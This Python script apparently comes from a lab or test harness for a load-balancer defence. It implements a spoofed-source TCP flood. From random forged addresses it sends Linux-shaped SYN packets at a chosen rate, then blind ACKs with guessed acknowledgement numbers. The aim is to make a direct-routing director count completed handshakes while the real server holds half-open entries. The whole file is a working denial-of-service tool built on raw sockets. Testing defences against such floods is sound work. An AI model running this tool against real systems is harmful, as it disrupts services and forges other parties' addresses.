#!/usr/bin/env python3
"""The seed's "smarter" attacker on a real kernel: from random spoofed sources, a SYN shaped like
Linux's (MSS, SACK_PERM, timestamps, window scale; TTL 64, window 64240), then `--delay-ms` later
a blind ACK (seq ISN+1, a guessed acknowledgement number), never any data. Under direct routing the
director sees a completed handshake; the real server, which checks the acknowledgement number,
keeps a half-open entry and answers the spoofed address with an RST.

hping3 cannot do this (its --rand-source draws a new source per packet, so no SYN is ever followed
by an ACK from the same address) and Node has no raw sockets; Python's socket module sends the
crafted IPv4 packets through a raw socket with IP_HDRINCL.

  python3 spoof_ack.py --dst 10.0.0.100 --port 80 --rate 5000 [--delay-ms 50] [--seed N]

Runs until SIGINT/SIGTERM, then prints one JSON line: {"syns": N, "acks": N, "errors": N}.
"""
import argparse
import collections
import json
import random
import signal
import socket
import struct
import sys
import time


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


# Linux's SYN options: MSS 1460, SACK_PERM, TS (val, 0), NOP, WS 7: 20 bytes.
def syn_options(ts: int) -> bytes:
    return struct.pack("!BBHBBBBII", 2, 4, 1460, 4, 2, 8, 10, ts, 0) + bytes([1, 3, 3, 7])


def packet(src: int, dst: int, sport: int, dport: int, seq: int, ack: int, flags: int, opts: bytes, ident: int) -> bytes:
    tcp_len = 20 + len(opts)
    offset = (tcp_len // 4) << 4
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, offset, flags, 64240, 0, 0) + opts
    pseudo = struct.pack("!IIBBH", src, dst, 0, socket.IPPROTO_TCP, tcp_len)
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBHII", 0x45, 0, 20 + tcp_len, ident, 0x4000, 64, socket.IPPROTO_TCP, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + tcp


def random_source(rng: random.Random) -> int:
    # Any unicast address outside 0/8, 10/8 (the lab), 127/8 and 224/3: what --rand-source would
    # pick, minus what the kernel or the lab would treat specially.
    while True:
        a = rng.getrandbits(32)
        top = a >> 24
        if top not in (0, 10, 127) and top < 224:
            return a


def main() -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("--dst", required=True)
    ap.add_argument("--port", type=int, default=80)
    ap.add_argument("--rate", type=float, required=True, help="spoofed connections per second")
    ap.add_argument("--delay-ms", type=float, default=50.0)
    ap.add_argument("--seed", type=int, default=1)
    args = ap.parse_args()
    rng = random.Random(args.seed)
    dst = struct.unpack("!I", socket.inet_aton(args.dst))[0]
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    stats = {"syns": 0, "acks": 0, "errors": 0}
    running = [True]

    def stop(_sig, _frame):
        running[0] = False

    signal.signal(signal.SIGINT, stop)
    signal.signal(signal.SIGTERM, stop)
    pending = collections.deque()  # (due, src, sport, seq)
    delay = args.delay_ms / 1000.0
    interval = 1.0 / args.rate
    start = time.perf_counter()
    sent = 0
    ident = 0
    while running[0]:
        now = time.perf_counter()
        due = int((now - start) / interval) + 1
        while sent < due and running[0]:
            src = random_source(rng)
            sport = rng.randint(1024, 65535)
            isn = rng.getrandbits(32)
            ident = (ident + 1) & 0xFFFF
            try:
                sock.sendto(packet(src, dst, sport, args.port, isn, 0, 0x02, syn_options(rng.getrandbits(32)), ident), (args.dst, 0))
                stats["syns"] += 1
            except OSError:
                stats["errors"] += 1
            pending.append((now + delay, src, sport, (isn + 1) & 0xFFFFFFFF))
            sent += 1
        while pending and pending[0][0] <= now:
            _, src, sport, seq = pending.popleft()
            ident = (ident + 1) & 0xFFFF
            try:
                sock.sendto(packet(src, dst, sport, args.port, seq, rng.getrandbits(32), 0x10, b"", ident), (args.dst, 0))
                stats["acks"] += 1
            except OSError:
                stats["errors"] += 1
        nxt = start + sent * interval
        if pending:
            nxt = min(nxt, pending[0][0])
        pause = nxt - time.perf_counter()
        if pause > 0:
            time.sleep(min(pause, 0.01))
    sys.stdout.write(json.dumps(stats) + "\n")
    sys.stdout.flush()
    return 0


if __name__ == "__main__":
    sys.exit(main())
